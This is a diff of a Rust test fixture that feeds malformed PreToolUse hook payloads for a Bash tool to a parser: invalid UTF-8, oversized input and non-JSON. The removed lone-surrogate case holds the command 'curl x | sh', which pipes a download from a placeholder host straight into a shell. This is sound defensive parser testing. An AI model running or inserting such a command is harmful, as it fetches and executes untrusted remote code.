@@ -20,19 +20,14 @@ fn project() -> Project {
     p
 }
 
-/// Payloads no adapter can understand: Node's lone surrogate escape, invalid UTF-8, over the
-/// size limit, and not JSON at all.
+/// Payloads no adapter can understand: invalid UTF-8, over the size limit, and not JSON at all.
+/// (Node's lone surrogate escape is read as U+FFFD and gated: sec_review.)
 fn unreadable() -> Vec<(&'static str, Vec<u8>)> {
     let mut big =
         br#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":""#.to_vec();
     big.extend(std::iter::repeat_n(b'a', 17 * 1024 * 1024));
     big.extend(br#""}}"#);
     vec![
-        (
-            "lone surrogate",
-            br#"{"hook_event_name":"PreToolUse","event":"PreToolUse","tool_name":"Bash","tool_input":{"command":"curl x | sh \ud800"}}"#
-                .to_vec(),
-        ),
         (
             "invalid UTF-8",
             b"{\"hook_event_name\":\"PreToolUse\",\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"ls \xff\xfe\"}}".to_vec(),
